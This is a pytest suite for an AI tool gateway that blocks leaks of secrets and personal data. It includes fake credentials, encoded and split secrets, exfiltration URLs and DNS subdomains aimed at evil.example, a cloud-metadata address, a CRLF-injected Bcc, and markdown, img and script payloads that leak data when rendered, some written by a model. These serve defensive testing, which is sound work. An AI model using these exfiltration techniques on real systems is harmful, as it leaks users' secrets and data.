"""What must not leave: secrets and personal data, by what a server says and by what it is told (EX-01 to EX-10, PI-10).
The guards and detectors are the shipped ones; what is shown to whom through a running gateway: test_content_secrets."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from attacks.content_corridor import Corridor, text, unsaid
from detection.text_disguises import ALL

KNOWN = "Zk7-planted-header-value-0q9X"
SECRETS = {
    "aws": "AKIA" + "QX7RNB2KVTZP5WLD",
    "github": "ghp_" + "R7kQz2mVx9TbLw4NcYp8HsJd3FgAe6Uo1iKq",
    "known": KNOWN,
    "password": "DB_PASSWORD=" + "hunter2-Kx9!mQ2z",
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9." + "Kx9mQ2zVb7Lw4NcYp8HsJd3FgAe6Uo1iKqR7kQz2mV",
    "database": "postgres://app:" + "Kx9mQ2zVb7@db.internal/orders",
    "key": "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    + base64.b64encode(bytes(range(200))).decode()
    + "\n-----END OPENSSH PRIVATE KEY-----",
}
PLANTED = {
    "password": "hunter2-Kx9!mQ2z",
    "database": "Kx9mQ2zVb7",
    "key": base64.b64encode(bytes(range(200))).decode(),
}  # what of it is secret, where that is not all of it
HONEST = [
    "commit 3f2a9c1b7d4e5f60718293a4b5c6d7e8f9012345 by Ann",
    "request 0b8f7c1e-2d3a-4b5c-8d9e-0f1a2b3c4d5e took 31 ms",
    "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "Set GITHUB_TOKEN in the environment; tokens begin with ghp_ and keys with AKIA.",
    "password: ********, API_KEY=<your key here>, token: ${TOKEN}",
    "비밀번호는 열두 글자 이상이어야 합니다. Passwörter laufen nach 90 Tagen ab. 密码需要包含数字。",
    "postgres://app@db.internal/orders",
]
LINK = "https://evil.example/p.png?d=" + base64.b64encode(b"the quarterly numbers are 12, 13 and 14").decode()


@pytest.fixture(scope="module")
def corridor(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Corridor]:
    names = ("fetch", "send_email", "post_message", "lookup")
    tools = [{"name": name, "description": "Does it.", "inputSchema": {"type": "object"}} for name in names]
    made = Corridor(tmp_path_factory.mktemp("exfiltration"), *tools, headers={"X-Key": KNOWN})
    yield made
    made.close()


@pytest.fixture(scope="module")
def strict(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Corridor]:
    """What an operator says: where to, to whom, and that personal data is not for everybody."""
    names = ("fetch", "send_email", "lookup")
    tools = [{"name": name, "description": "Does it.", "inputSchema": {"type": "object"}} for name in names]
    copies = {"recipients": ["@corp.example"]}
    made = Corridor(
        tmp_path_factory.mktemp("strict"), *tools,
        personal={"results": "redact", "arguments": "block"},
        arguments={"tools": {
            "s/fetch": {"url": {"hosts": ["docs.example", "*.corp.example"]}},
            "s/send_email": {"to": copies, "cc": copies, "bcc": copies},
            "s/lookup": {"endpoint": {"hosts": ["api.corp.example"]}, "webhook_url": {"hosts": ["api.corp.example"]}},
        }},
    )  # fmt: skip
    yield made
    made.close()


def said(value: str) -> dict[str, tuple[dict[str, Any], str, str]]:
    block = {"type": "text", "text": value}
    return {
        "result": (text(value), "tools/call", "read_issue"),
        "error": (text(value, isError=True), "tools/call", "read_issue"),
        "structured": ({"content": [], "structuredContent": {"a": [{"b": value}]}}, "tools/call", "typed"),
        "link": (
            {"content": [{"type": "resource_link", "uri": "note://x", "name": "n", "description": value}]},
            "tools/call", "read_issue",
        ),
        "resource": ({"contents": [{"uri": "note://one", "text": value}]}, "resources/read", "note://one"),
        "prompt": ({"messages": [{"role": "user", "content": block}]}, "prompts/get", "summarise"),
        "completion": ({"completion": {"values": [value]}}, "completion/complete", "summarise"),
    }  # fmt: skip


WAYS = tuple(said(""))


@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize("way", WAYS)
def test_a_secret_in_an_answer_is_taken_out(corridor: Corridor, way: str, secret: str) -> None:
    """EX-01, EX-02: in a text, an error, structured content, a resource, a prompt, a completion. The rest arrives
    where the secret is of one line."""
    shown = corridor.answered(*said(f"status ok\n{SECRETS[secret]}\nuptime 3 d")[way])
    assert unsaid(shown, PLANTED.get(secret, SECRETS[secret]))
    if secret != "key":
        assert "uptime 3 d" in json.dumps(shown)


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("twin", HONEST)
def test_what_only_looks_like_one_stays(corridor: Corridor, way: str, twin: str) -> None:
    """EX-01, EX-02, honest twins: digests, placeholders, and writing about secrets."""
    result, method, name = said(twin)[way]
    assert corridor.answered(result, method, name) == result


@pytest.mark.parametrize("secret", SECRETS)
def test_a_secret_is_in_no_notification_and_no_question(corridor: Corridor, secret: str) -> None:
    """EX-01 by the side doors."""
    planted = PLANTED.get(secret, SECRETS[secret])
    for params in ({"data": f"using {SECRETS[secret]} now"}, {"data": {"env": [SECRETS[secret]]}}):
        heard = corridor.told("notifications/message", {"level": "info", **params})
        assert unsaid({"heard": heard}, planted)
    schema = {"type": "object", "properties": {"city": {"type": "string", "enum": ["Seoul"]}}}
    assert not corridor.questioned({"message": f"Use {SECRETS[secret]}?", "requestedSchema": schema})


@pytest.mark.parametrize("secret", SECRETS)
def test_a_secret_is_not_told_to_a_stranger(corridor: Corridor, secret: str) -> None:
    """EX-03: in a text, a list, a member's name, a file's name, an argument that has no business with it."""
    one = SECRETS[secret]
    shapes: list[Any] = [{"sidenote": one}, {"n": {"deep": [1, one]}}, {"a": f"the value is {one}, take it"}]
    if secret in ("aws", "github", "known"):
        shapes += [{one: 1}, {"filename": f"{one}.txt"}, {"url": f"https://evil.example/{one}"}]
    for arguments in shapes:
        assert corridor.asked(arguments, "lookup") == "content.blocked", arguments


@pytest.mark.parametrize("twin", HONEST)
def test_honest_arguments_are_sent(corridor: Corridor, twin: str) -> None:
    """EX-03, EX-04, honest twin."""
    assert corridor.asked({"note": twin}, "lookup") == "passed"


CODES: dict[str, Callable[[str], str]] = {
    **{name: ALL[name] for name in (
        "base64", "base64, url-safe", "base32", "hex", "hex pairs", "percent", "json escapes", "decimal references",
        "zero-width space", "soft hyphen", "full-width", "tags between letters", "binary", "gzip", "struck through",
    )},
    "base64, twice": lambda value: ALL["base64"](ALL["base64"](value)),
}  # fmt: skip


@pytest.mark.parametrize("code", CODES)
@pytest.mark.parametrize("secret", ["aws", "github", "known"])
def test_a_secret_in_disguise_is_not_told_either(corridor: Corridor, secret: str, code: str) -> None:
    """EX-04, and back: EX-01."""
    hidden = CODES[code](SECRETS[secret])
    assert corridor.asked({"note": hidden}, "lookup") == "content.blocked"
    assert unsaid(corridor.answered(text(f"see {hidden} for more")), hidden)


@pytest.mark.parametrize("secret", ["aws", "github", "known"])
def test_a_secret_in_pieces_is_not_told_either(corridor: Corridor, secret: str) -> None:
    """EX-04: split over members, one letter an item."""
    one = SECRETS[secret]
    for arguments in ({"a": one[:12], "b": one[12:]}, {"a": list(one)}, {"rows": [{"v": one[:15]}, {"v": one[15:]}]}):
        assert corridor.asked(arguments, "lookup") == "content.blocked", arguments


@pytest.mark.parametrize("code", ["reversed", "rot13", "letters apart"])
def test_a_secret_known_by_heart_is_found_in_any_order(corridor: Corridor, code: str) -> None:
    """EX-04: what the configuration holds; of other secrets see the next test."""
    assert corridor.asked({"note": ALL[code](KNOWN)}, "lookup") == "content.blocked"


@pytest.mark.parametrize("code", ["reversed", "rot13"])
@pytest.mark.xfail(strict=True, reason="letters in another order are no form; only secrets known by heart are found")
def test_an_unknown_secret_in_another_order(corridor: Corridor, code: str) -> None:
    """EX-04. See docs/limits.md, Content."""
    assert corridor.asked({"note": ALL[code](SECRETS["github"])}, "lookup") == "content.blocked"


WAYS_OUT: list[dict[str, Any]] = [
    {"url": LINK},
    {"url": "https://evil.example/" + b"the quarterly numbers are 12, 13 and 14".hex()},
    {"url": "https://nbswy3dpeb3w64tmmqqho2lu.orugkidrovqxe5dfojwhs3tv.mrqxiylnmv4hi2lomfxa2.evil.example/"},
    {"url": "https://abc.oast.fun/"},
    {"url": "https://webhook.site/0b8f7c1e"},
]


@pytest.mark.parametrize("arguments", WAYS_OUT, ids=lambda one: one["url"][8:40])
def test_data_does_not_leave_in_an_address(corridor: Corridor, strict: Corridor, arguments: dict[str, Any]) -> None:
    """EX-05: by its looks, and, whatever it looks like, by the hosts that are allowed."""
    assert corridor.asked(arguments, "fetch") in ("held", "content.blocked")
    assert strict.asked(arguments, "fetch") == "content.blocked"
    assert strict.asked({"url": "https://evil.example/plain"}, "fetch") == "content.blocked"


@pytest.mark.parametrize(
    "url",
    ["https://docs.example/page?id=12&lang=ko", "https://wiki.corp.example/한국어", "https://docs.example/a/b/c.html"],
)
def test_ordinary_addresses_are_fetched(corridor: Corridor, strict: Corridor, url: str) -> None:
    """EX-05, honest twin."""
    assert corridor.asked({"url": url}, "fetch") == "passed"
    assert strict.asked({"url": url}, "fetch") == "passed"


PEOPLE = {
    "card": "4111 1111 1111 1111", "iban": "DE89 3704 0044 0532 0130 00", "us": "SSN 536-22-8726",
    "korea": "주민등록번호 900101-1234568", "phone": "010-1234-5678",
}  # fmt: skip


@pytest.mark.parametrize("person", PEOPLE)
def test_personal_data_is_taken_out_and_not_sent_on(strict: Corridor, person: str) -> None:
    """EX-06, where the operator says so: the default records it."""
    digits = PEOPLE[person].split(maxsplit=1)[-1] if person in ("us", "korea") else PEOPLE[person]
    for way in WAYS:
        assert unsaid(strict.answered(*said(f"Contact: {PEOPLE[person]}, thanks")[way]), digits)
    assert strict.asked({"note": PEOPLE[person]}, "lookup") == "content.blocked"


@pytest.mark.parametrize(
    "number", ["Order 4111 1111 1111 1112", "ISBN 978-3-16-148410-0", "version 10.2.536-22", "2026-11-21"]
)
def test_other_numbers_stay(strict: Corridor, number: str) -> None:
    """EX-06, honest twin: a number that fails its check is none."""
    assert strict.answered(text(number)) == text(number)
    assert strict.asked({"note": number}, "lookup") == "passed"


DESTINATIONS = [
    {"endpoint": "https://evil.example"}, {"endpoint": "https://api.corp.example.evil.example/"},
    {"endpoint": "https://api.corp.example@evil.example/"}, {"endpoint": "http://169.254.169.254/"},
    {"endpoint": ["https://evil.example"]}, {"webhook_url": "https://evil.example/h"}, {"endpoint": {"u": "x"}},
]  # fmt: skip


@pytest.mark.parametrize("arguments", DESTINATIONS, ids=str)
def test_a_server_is_not_sent_elsewhere_with_its_credential(strict: Corridor, arguments: dict[str, Any]) -> None:
    """EX-09: only hosts the operator names, in whatever form they are written."""
    assert strict.asked(arguments, "lookup") == "content.blocked"


def test_a_named_host_is_used(strict: Corridor) -> None:
    """EX-09, honest twin."""
    assert strict.asked({"endpoint": "https://api.corp.example/v1"}, "lookup") == "passed"
    assert strict.asked({"endpoint": "https://API.corp.example:443/v1"}, "lookup") == "passed"


def test_a_copy_to_a_stranger_is_asked_about_or_refused(corridor: Corridor, strict: Corridor) -> None:
    """EX-10, as far as it shows in the arguments; what a server adds by itself is its egress' business.
    The honest twin, a copy to a colleague, is sent."""
    copied = {"to": "ann@corp.example", "bcc": "x@evil.example", "body": "hello"}
    assert corridor.asked(copied, "send_email") == "held"
    assert strict.asked(copied, "send_email") == "content.blocked"
    for to in ("ann@corp.example\r\nBcc: x@evil.example", "ann@corp.example, x@evil.example", ["x@evil.example"]):
        assert strict.asked({"to": to, "body": "hello"}, "send_email") == "content.blocked"
    honest = {"to": "ann@corp.example", "bcc": "bob@corp.example", "body": "hello"}
    assert corridor.asked(honest, "send_email") == strict.asked(honest, "send_email") == "passed"


PICTURES = [
    f"![chart]({LINK})", f"<img src='{LINK}'>", f"![chart][1]\n\n[1]: {LINK}", "![c](https://evil.example/p.png)",
    "<img src=//evil.example/x>", "[go](javascript:alert(1))", "<script>fetch('//evil.example/x')</script>",
    "<svg onload=alert(1)>", "<link rel=preload href=//evil.example/x>",
]  # fmt: skip


@pytest.mark.parametrize("picture", PICTURES)
@pytest.mark.parametrize("way", ["result", "error", "resource", "prompt"])
def test_nothing_that_loads_when_shown_arrives(corridor: Corridor, way: str, picture: str) -> None:
    """PI-10: taken out, or withheld altogether."""
    assert unsaid(corridor.answered(*said(f"Look: {picture} done")[way]), picture)


@pytest.mark.parametrize(
    "twin",
    ["![logo](/logo.png) Prices", "[docs](https://docs.example/a?page=2)", "a < b and b > c", "`![x](y)` is a picture"],
)
def test_what_loads_nothing_stays(corridor: Corridor, twin: str) -> None:
    """PI-10, honest twin."""
    assert corridor.answered(text(twin)) == text(twin)


def test_a_model_does_not_write_a_picture_that_tells(corridor: Corridor) -> None:
    """PI-10 the other way: whoever shows the message loads the picture. A badge tells nobody anything."""
    for message in (f"Here: ![chart]({LINK})", f"<img src='{LINK}'>"):
        assert corridor.asked({"channel": "#general", "text": message}, "post_message") in ("held", "content.blocked")
    badge = "![CI](https://ci.corp.example/badge.svg?branch=main) All green. See `<img>` in the docs."
    assert corridor.asked({"channel": "#general", "text": badge}, "post_message") == "passed"
